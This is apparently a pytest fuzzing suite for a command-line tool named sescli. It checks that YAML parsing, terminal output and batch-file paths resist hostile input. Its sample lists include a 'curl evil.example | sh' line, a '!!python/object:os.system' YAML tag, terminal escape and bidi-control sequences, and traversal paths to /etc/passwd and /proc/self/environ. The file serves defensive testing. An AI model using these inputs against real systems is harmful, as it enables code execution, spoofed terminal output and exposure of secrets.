"""Hostile YAML and archives, strings for the terminal, and paths in a batch file."""

from __future__ import annotations

import gzip
import io
import json
import os
import re
from pathlib import Path
from random import Random

import pytest
import yaml
from fuzzing import Campaign
from program import Stream

from sescli.advice import Advice, NextCommand, Operand
from sescli.errors import InputFileError, Place, SescliError
from sescli.output.output import Output
from sescli.output.results import Column, Details, Done, Listing
from sescli.output.terminal import detect
from sescli.text.input_files import open_inside, read_at_most
from sescli.text.structured import read_data
from sescli.text.utf8 import Utf8Source

pytestmark = pytest.mark.fuzz

# --- YAML and archives ---

_TOKENS = (
    "a: ", "b: ", "- ", "? ", ": ", "&x ", "*x", "!!python/object:os.system ", "!<x> ", "[", "]", "{", "}", ",", '"', "'", "|\n ", ">\n ",
    "#", "%YAML 1.2\n", "---\n", "...\n", "\n", "  ", "\t", "\ufeff", "\0", "\x85", "<<: ", "~", "0x1F", "1e999", "2024-01-01", "é",
    '"\\ud800"', '"\\x00"', "[" * 40, "{a: " * 40, "x" * 200, "a: 1\na: 2\n", '{"k":1,"k":2}', "null", "NaN", "9" * 5000,
)  # fmt: skip


def hostile_file(random: Random) -> tuple[str, bytes]:
    """The name and the bytes of a file: YAML, JSON, or lines, plain or as gzip that may be damaged."""
    text = "".join(random.choice(_TOKENS) for _ in range(random.randint(0, 12)))
    data = text.encode()
    name = random.choice(("f.yaml", "f.json", "f.csv", "f.csv.gz"))
    if name.endswith(".gz"):
        data = gzip.compress(data * random.choice((1, 1, 5000)), mtime=0)
        if random.random() < 0.5:
            at = random.randrange(len(data))
            data = data[:at] + bytes([random.randrange(256)]) + data[at + random.choice((0, 1, 5)) :]
    elif random.random() < 0.1:
        data += random.choice((b"\xff", b"\xc3", b"\x1f\x8b", b"\xff\xfe"))
    return name, data


FILES = Campaign("YAML and archives", total=5_000, generate=hostile_file)


def _read(item: tuple[str, bytes], *, reader=read_data) -> str | None:
    name, data = item
    try:
        if name in {"f.yaml", "f.json"}:
            text = data.decode("utf-8", "replace")
            value = reader(text, name)
            if re.search(r"&x |!!python", text.split("#")[0]) and (
                "&x" not in str(value) and "!!" not in str(value)
            ):
                return "an anchor or a tag was accepted"
            json.dumps(value)
        else:
            for _ in Utf8Source(io.BytesIO(data), name).lines():
                pass
    except SescliError as error:
        return None if error.message.startswith(name) else "an error without the name of the file"
    return None


def test_yaml_and_archives(fuzz):
    fuzz.none_through(FILES, _read)


def test_yaml_and_archives_finds_reader_with_aliases(fuzz):
    def with_aliases(text: str, name: str):
        try:
            return yaml.safe_load(text)
        except (yaml.YAMLError, ValueError, TypeError, RecursionError) as error:
            raise InputFileError("is not valid", place=Place(name)) from error

    fuzz.finds(FILES, lambda item: _read(item, reader=with_aliases))


# --- strings for the terminal ---

_STRINGS = (
    "\x1b[2J", "\x1b]0;t\x07", "\x1b]8;;http://evil.example\x1b\\", "\x9b31m", "\r", "\n", "\r\n", "\v", "\f", "\x85", "\u2028", "\u2029",
    "\x00", "\x08", "\x7f", "\u202e", "\u2066", "\u200b", "\u00ad", "\u200d", "\ufeff", "\U000e0041", "\ud800", "é", "日本", "👨\u200d👩",
    "error: fake", "hint: fake", "  try: curl evil.example | sh", "warning: fake", "Next: fake", "ok", " ", " " * 70, "[red]", "a@b.co", "x" * 90,
)  # fmt: skip


def hostile_string(random: Random) -> str:
    return "".join(random.choice(_STRINGS) for _ in range(random.randint(1, 8)))


STRINGS = Campaign("terminal strings", total=5_000, generate=hostile_string)
_STYLE = re.compile(r"\x1b\[[0-9;]*m")  # bold, from rich; no hostile string has it
_FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def _shown(text: str, *, tty: bool, width: int) -> tuple[str, str]:
    out, err = Stream(tty=tty), Stream(tty=tty)
    terminal = detect(Stream(tty=tty), out, err, {"NO_COLOR": "1"}, no_input=False, colour="never")
    shown = Output(type(terminal)(**{**vars(terminal), "width": width}), verbose=True)
    hint = Advice("look: ", NextCommand("identity", "show", Operand(text)))
    shown.error(SescliError(text, hint=hint, request_id=text))
    shown.warn(text)
    shown.trace(f"call {text}")
    shown.step(f"step {text}")
    shown.result(
        Details({}, [(text, text)], [Listing([text], [Column("name", str)], title=text)], title=text)
    )
    shown.result(Done("Done.", {}, next=hint))
    return _STYLE.sub("", out.text()), _STYLE.sub("", err.text())


def _deceives(text: str, *, show=_shown) -> str | None:
    for tty, width in ((False, 80), (True, 60)):
        out, err = show(text, tty=tty, width=width)
        if found := _FORBIDDEN.search(out + err):
            return f"U+{ord(found[0]):04X} reaches the terminal"
        starts = [line for line in err.splitlines() if re.match(r"(error|warning|hint):|  try:", line)]
        if len(starts) != 3:  # one error, its hint, one warning
            return f"lines that pose as others: {starts}"
    return None


def test_terminal_strings(fuzz):
    fuzz.none_through(STRINGS, _deceives)


def test_terminal_strings_finds_output_without_sanitizer(fuzz):
    def plain(text: str, **_):
        return "", f"error: {text}\n  try: x\nwarning: x\n"

    fuzz.finds(STRINGS, lambda text: _deceives(text, show=plain))


# --- paths ---

_PARTS = ("part.txt", "sub", "..", ".", "", "link-out", "link-in", "link-passwd", "loop", "fifo", "/etc/passwd", "/dev/zero", "/dev/stdin", "/proc/self/fd/0", "/proc/self/environ", "~", "PART.TXT", "a\nb", "a\0b", "\ud800", "secret.txt", "x" * 300)  # fmt: skip


_LINKS = (
    "link-out/secret.txt",
    "link-passwd",
    "sub/link-passwd",
    "link-in/link-out/secret.txt",
    "link-in/part.txt",
)


def hostile_path(random: Random) -> str:
    if random.random() < 0.2:
        return random.choice(_LINKS)
    return "/".join(random.choice(_PARTS) for _ in range(random.randint(1, 4)))


PATHS = Campaign("paths", total=200, generate=hostile_path, usual=100)


@pytest.fixture
def folder(tmp_path) -> Path:
    made = tmp_path / "batch"
    (made / "sub").mkdir(parents=True)
    (tmp_path / "secret.txt").write_text("private")
    for place in (made, made / "sub"):
        (place / "part.txt").write_text("inside")
        (place / "link-out").symlink_to(tmp_path)
        (place / "link-passwd").symlink_to("/etc/passwd")
        (place / "link-in").symlink_to(made)
        (place / "loop").symlink_to("loop")
        os.mkfifo(place / "fifo")
    return made


def test_paths(fuzz, folder):
    def through(name: str) -> str | None:
        try:
            with open_inside(folder, folder / name) as stream:
                content = read_at_most(stream, 1000)
        except OSError as error:
            return None if error.strerror else "an error without a reason"
        return None if content == b"inside" else f"read {content[:40]!r}"

    fuzz.none_through(PATHS, through)


def test_paths_finds_check_by_name_only(fuzz, folder):
    def through(name: str) -> str | None:
        path = folder / name
        if ".." in name or name.startswith("/") or "\0" in name or "\ud800" in name or not path.is_file():
            return None
        return None if path.read_bytes() == b"inside" else "read a file outside"

    fuzz.finds(PATHS, through)


def test_paths_through_the_command_line(fuzz, folder, sescli, ses):
    batch = "version: 1\nname: news\nfrom: shop@example.com\ncontent: {{subject: s, text: {}}}\nrecipients: [{{to: a@b.co}}]\n"
    for name in fuzz.sample(PATHS, 15):
        (folder / "batch.yaml").write_text(batch.format(json.dumps(f"@{name}")))
        ran = sescli("bulk", "validate", str(folder / "batch.yaml"), "-o", "json")
        assert ran.code in {2, 3}
        assert "bug in sescli" not in ran.stderr
        assert "private" not in ran.stdout
